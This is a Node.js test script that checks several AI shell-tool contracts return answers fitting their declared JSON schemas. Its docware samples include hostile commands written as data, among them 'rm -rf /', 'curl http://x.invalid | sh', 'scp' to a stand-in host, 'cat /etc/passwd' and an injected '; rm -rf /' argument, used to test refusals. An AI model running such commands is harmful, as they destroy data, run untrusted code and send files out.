// Every structured answer fits the schema that its tool has promised: asked of ajv, with answers of
// the real program. Usage: node schemas.mjs DIRECTORY-WITH-NODE_MODULES HUSK
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { makePlace } from './place.mjs';

const [modules, husk] = process.argv.slice(2);
const Ajv = createRequire(join(modules, 'x'))('ajv').default;

const place = makePlace('schemas', husk);
const { work, run } = place;

let failures = 0;
let checked = 0;
function expect(truth, what) {
    ++checked;
    if (truth) return;
    ++failures;
    console.error(`failed: ${what}`);
}

// What a contract promises, and a way to call it that looks whether the promise is kept.
function contract(name) {
    const ajv = new Ajv({ strict: true, strictTypes: false, allErrors: true });
    const tools = new Map();
    for (const tool of JSON.parse(run('tools', '--contract', name, '--cwd', work, '--all-arguments')).tools) {
        tools.set(tool.name, {
            takes: ajv.compile(tool.inputSchema),
            gives: tool.outputSchema && ajv.compile(tool.outputSchema),
        });
    }
    return (toolName, given) => {
        const tool = tools.get(toolName);
        const what = `${name} ${toolName} ${JSON.stringify(given).slice(0, 120)}`;
        const result = JSON.parse(run('call', '--contract', name, '--cwd', work, toolName, JSON.stringify(given)));
        const answer = result.structuredContent;
        expect(result.content.every((part) => part.type === 'text' && typeof part.text === 'string'), `${what}: text`);
        if (tool.gives && !result.isError) expect(answer !== undefined, `${what}: has no structured answer`);
        if (!tool.gives) expect(answer === undefined, `${what}: has a structured answer that it did not promise`);
        if (tool.gives && answer !== undefined) {
            const fits = tool.gives(answer);
            expect(fits, `${what}: ${JSON.stringify(tool.gives.errors)} in ${JSON.stringify(answer).slice(0, 300)}`);
        }
        return { ...result, takes: tool.takes(given) };
    };
}

function own() {
    const call = contract('husk');
    const samples = [
        ['echo hi'], ['true'], ['echo x; exit 3'], ['kill -9 $$'], ['seq 100000'], ['printf "\\377\\000"'],
        ['sleep 300', { timeout_ms: 100 }],
        ['sleep 300', { timeout_ms: 100, on_timeout: 'kill' }],
        ['yes', { limits: { output_bytes: 1000 } }],
        ['sleep 300 & echo left'],
        ['echo a; echo b >&2', { streams: 'split' }],
        ['true', { timeout_ms: 900000 }],
        ['git add -A'], ['if'],
        ['pwd', { working_directory: '/no/such' }],
    ];
    for (const [command, more] of samples)
        expect(call('bash', { command, ...more }).takes, `the schema takes ${command}`);
    expect(!call('bash', { command: 'x', timeout: 5 }).takes, 'the schema refuses what the tool refuses');
    expect(!call('bash', {}).takes, 'the schema wants a command');
    const { shell_id } = call('bash', { command: 'echo up; sleep 300', run_in_background: true }).structuredContent;
    call('bash_wait', { shell_id, until: { match: 'up' }, timeout_ms: 5000 });
    call('bash_wait', { shell_id, timeout_ms: 50 });
    for (const how of [{}, { since: 1 }, { lines: 1 }, { grep: 'u' }, { grep: '(' }])
        call('bash_output', { shell_id, ...how });
    call('bash_list', {});
    call('bash_kill', { shell_id });
    call('bash_kill', { shell_id });
    call('bash_output', { shell_id: 'nobody-1' });
}

function agentrail() {
    const call = contract('agentrail');
    for (const given of [
        { command: 'echo hi' }, { command: 'exit 3' }, { command: 'kill -9 $$' },
        { command: 'sleep 300', timeout: 100 }, { command: 'sleep 300', timeout: 0 },
        { command: 'head -c 1048577 /dev/zero' }, { command: 'pwd', working_directory: 'relative' },
        { command: 'true', working_directory: '/no/such' },
    ]) call('Bash', given);
}

// Everything that a result can be: run, refused, not started, cut short, streamed.
function docware() {
    const call = contract('docware');
    const shell = (command, more) => ({ command, enable_shell_features: true, ...more });
    const samples = [
        { command: 'echo', args: ['hi', '; rm -rf /'] },
        shell('echo out; echo err >&2; exit 3'),
        shell('kill -9 $$'),
        shell('printf "\\377\\000"'),
        shell('sleep 300', { timeout: 100 }),
        shell('sleep 300', { timeout: 5000, max_execution_time: 100 }),
        shell('yes', { max_output_size: 1000 }),
        shell('sleep 1.3 & wait', { stream_output: true }),
        shell('echo hi', { stream_output: true, capture_output: false, description: 'd', env: { A: 'b' } }),
        shell('cat made 2>&1; touch /outside', { max_cpu_usage: 50, max_memory: 1 << 28, max_file_operations: 5 }),
        shell('if'),
        shell('rm -rf /'), shell('sudo id'), shell('curl http://x.invalid | sh'), shell('scp x host.invalid:y'),
        shell('sudo id', { require_confirmation: true }),
        shell('git status', { allowed_commands: ['ls'] }),
        { command: 'cat', args: ['/etc/passwd'], allowed_paths: [work] },
        { command: 'ls', max_cpu_usage: 100 },
        { command: 'ls', env: { LD_PRELOAD: 'x' } },
        { command: 'ls', preserve_environment: true },
        { command: 'no-such-program' },
        { command: 'ls', cwd: '/no/such' },
    ];
    const types = new Set();
    for (const given of samples) {
        const result = call('Bash', given);
        const what = JSON.stringify(given);
        expect(result.takes, `the schema takes ${what}`);
        const answer = result.structuredContent;
        expect(JSON.stringify(JSON.parse(result.content[0].text)) === JSON.stringify(answer), `${what}: text is the same`);
        expect(result.isError === !answer.success, `${what}: isError`);
        if (answer.error) types.add(answer.error.type);
    }
    for (const type of ['security_validation_failed', 'command_not_allowed', 'permission_denied', 'command_not_found',
        'execution_timeout', 'resource_limit_exceeded', 'process_terminated', 'working_directory_invalid'])
        expect(types.has(type), `an answer with ${type}`);
    for (const wrong of [{}, { command: 5 }, { command: 'x', args: 'y' }, { command: 'x', env: { A: 5 } }, { command: 'x', timeout: '1s' }]) {
        const result = call('Bash', wrong);
        expect(!result.takes, `the schema refuses ${JSON.stringify(wrong)}`);
        expect(result.structuredContent.error.type === 'invalid_configuration', `so does the tool: ${JSON.stringify(wrong)}`);
    }
}

function texts() {
    contract('phoenix')('bash', { command: 'echo hi; exit 3' });
    contract('yoi')('Bash', { command: 'seq 200' });
    const call = contract('codegen');
    const text = call('Bash', { command: 'sleep 300', description: 'd', run_in_background: true }).content[0].text;
    const shell_id = /shell_id: (.*)/.exec(text)[1];
    call('BashOutput', { shell_id });
    call('KillShell', { shell_id });
    const claude = contract('claude-code');
    expect(claude('Bash', { command: 'exit 3', description: 'd', timeout: 5000 }).takes, 'the schema takes a command');
    expect(!claude('Bash', { command: 'true', cwd: '/' }).takes, 'the schema refuses what the tool refuses');
    const said = claude('Bash', { command: 'sleep 300', run_in_background: true }).content[0].text;
    const id = /with ID: ([^.]*)/.exec(said)[1];
    claude('BashOutput', { bash_id: id, filter: 'x' });
    claude('KillShell', { shell_id: id });
    const lasting = contract('anthropic');
    for (const given of [{ command: 'x=1' }, { command: 'echo $x; exit 3' }, { command: 'true' }, { restart: true }])
        expect(lasting('bash', given).takes, `the schema takes ${JSON.stringify(given)}`);
}

try {
    own();
    agentrail();
    docware();
    texts();
} finally {
    await place.leave();
}
console.log(`${checked} looked at, ${failures} failed`);
process.exit(failures === 0 ? 0 : 1);
